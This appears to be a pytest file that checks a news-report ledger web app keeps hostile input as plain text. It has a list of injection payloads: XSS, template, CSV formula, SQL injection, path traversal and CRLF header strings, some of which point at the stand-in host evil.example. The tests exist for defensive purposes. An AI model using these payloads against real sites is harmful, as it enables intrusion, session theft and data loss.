"""Hostile reports, names and addresses stay text: nothing of them becomes markup, script, style or a link."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from served import client_of, write_ledger
from test_web_pages import Tags, check

from depesche import open_ledger
from depesche.intake import report_from_text
from depesche.records import (
    Actor,
    Claim,
    Contact,
    Evidence,
    Mention,
    Note,
    Party,
    Readout,
    Record,
    Response,
    Role,
    Span,
    Statement,
    Timex,
)  # fmt: skip
from depesche.web import Settings

ATTACKS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></p><svg onload=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//http://x.example/",
    "data:text/html,<script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=token>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "{{ 7*7 }}{% for x in settings %}{{ x }}{% endfor %}",
    "{n} {0.__class__} {settings}",
    "%s %(x)s ${alert(1)}",
    "<!--><script>alert(1)</script-->",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>\u2066alert(1)\u2069</script>",
    "\u2028alert(1)\u2029",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\"; DROP TABLE reports; --",
    "' OR 1=1 --",
    "x\" OR \"y",
    "../../../etc/passwd",
    "file:///etc/passwd",
    "\r\nSet-Cookie: stolen=1\r\n\r\n<script>",
)  # fmt: skip


def hostile(i: int, words: str) -> Record:
    """A record in which every text that comes from outside is an attack."""
    body = f"{words} met {words}.\n\n{words} said: “{words}” {words}. No evidence. {words} denies it."
    report = report_from_text(body, source=words, headline=words, url=words, language="en", published=None, notes=())
    report = replace(report, agency=words, place=words, published=f"1962-10-{i % 28 + 1:02}", credits=())
    end = len(report.text)
    actors = tuple(
        Actor(
            id=f"a{n}", kind="person", name=f"{words} {n}", country=None, canonical=words,
            roles=(Role(title=words, office=words, country=words),), mentions=(Mention(start=n, end=n + 3, form="name"),),
        )
        for n in (1, 2)
    )  # fmt: skip
    said = Statement(
        id="s1", type="direct", medium="speech", act="assert", speaker=Party(actor="a1", spans=(Span(0, 3),)),
        addressees=(Party(actor="a2"),), content=(Span(4, min(40, end)),), cue=(Span(1, 2),), about="k1",
    )  # fmt: skip
    inner = replace(said, id="s2", content=(Span(6, min(20, end)),), within="s1", act="deny", about=None)
    contact = Contact(
        id="k1", channel="meeting", status="held", participants=("a1", "a2"), date=report.published, place=words, since=words,
        spans=(Span(2, 9),), readouts=(Readout(party=words, statements=("s1",), spans=(Span(3, 8),)),),
    )  # fmt: skip
    claim = Claim(
        id="c1", claimant="a1", statement="s1", content=(Span(5, min(30, end)),),
        evidence=Evidence(status="none", by="a2", spans=(Span(7, 12),)),
        responses=(Response(actor="a2", stance="deny", statement="s2", spans=(Span(3, 14),)),),
    )  # fmt: skip
    return Record(
        report=report, actors=actors, times=(Timex(start=1, end=4, type="DATE", value=words),), contacts=(contact,),
        statements=(said, inner), claims=(claim,), notes=(Note(code="W102", message=words),),
    )  # fmt: skip


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    path = write_ledger(
        tmp_path_factory.mktemp("attacks") / "attacks.db", [hostile(i, words) for i, words in enumerate(ATTACKS)]
    )
    with client_of(Settings(ledger=path, rate=1e6, posts=10**6)) as made:
        yield made, path


def text_of(html: str) -> str:
    return re.sub(r"<[^>]*>", "", html)


def test_reports_stay_text(attacked):
    client, path = attacked
    with open_ledger(path, read_only=True) as ledger:
        reports = [row.report for row in ledger.reports()]
        rows = [f"/contact/{k.id}" for k in ledger.contacts()] + [f"/claim/{c.id}" for c in ledger.claims()]
    for at in (
        [f"/report/{r}" for r in reports]
        + rows[::3]
        + [f"/report/{reports[0]}/correct/{k}" for k in ("s1", "k1", "c1")]
    ):
        answer = client.get(at)
        assert answer.status_code == 200, (at, answer.text[:300])
        tags = check(answer.text)
        assert "49{" not in answer.text
        assert "stolen" not in str(answer.headers)
        for tag, attrs in tags.tags:
            if tag == "a":
                href = attrs.get("href") or ""
                assert href.startswith(("/", "#")), href
                assert not href.startswith("//"), href


def test_lists_stay_text(attacked):
    client, _ = attacked
    pages = (
        "/", "/?since=1962-10-01&until=1962-10-28", "/channel", "/network", "/network?of=people", "/claims", "/actors", "/reports",
        "/search?q=alert", "/search?in=statements&q=alert", "/search?in=contacts", "/search?in=claims",
    )  # fmt: skip
    for at in pages:
        answer = client.get(at)
        assert answer.status_code == 200, at
        check(answer.text)


@pytest.mark.parametrize("words", ATTACKS)
def test_what_is_asked_stays_text(attacked, words):
    client, _ = attacked
    for path, key in (
        ("/search", "q"), ("/search", "party"), ("/claims", "party"), ("/actor", "party"), ("/channel", "a"), ("/", "since"),
        ("/actors", "name"), ("/actors", "country"), ("/network", "since"), ("/reports", "language"), ("/login", "next"),
    ):  # fmt: skip
        answer = client.get(path, params={key: words, "b": words})
        assert answer.status_code in (200, 303, 400), (path, key, answer.status_code)
        assert "set-cookie" not in answer.headers or "stolen" not in answer.headers["set-cookie"]
        check(answer.text or "<html></html>") if answer.status_code != 303 else None
    for path in ("/report", "/claim", "/contact", "/read"):
        answer = client.get(
            f"{path}/{words.replace('/', '%2f')}".replace("\r", "%0d")
            .replace("\n", "%0a")
            .replace("#", "%23")
            .replace("?", "%3f")
        )
        if answer.status_code == 303:  # the words are a report's source
            assert re.fullmatch(r"/report/[0-9a-f]{24}", answer.headers["location"])
            continue
        assert answer.status_code in (404, 400, 405), (path, answer.status_code)
        check(answer.text)


def test_tables_hold_no_formulas(attacked):
    client, _ = attacked
    for at in ("/claims.csv", "/actors.csv", "/reports.csv", "/network.csv?of=people"):
        for line in client.get(at).text.splitlines():
            assert not re.search(r'(?:^|,)"?[=+@]', line), line


@pytest.mark.parametrize("words", ATTACKS[:12])
def test_judgements_stay_text(attacked, words):
    client, path = attacked
    with open_ledger(path, read_only=True) as ledger:
        report = next(ledger.reports()).report
    form = {"field": "speaker", "value": words, "author": words}
    answer = client.post(f"/report/{report}/correct/s1", data=form)
    assert answer.status_code == 303
    assert "stolen" not in str(answer.headers)
    for at in (f"/report/{report}", "/corrections"):
        page = client.get(at)
        assert page.status_code == 200
        check(page.text)
    assert Tags(client.get("/corrections").text).wrong == []
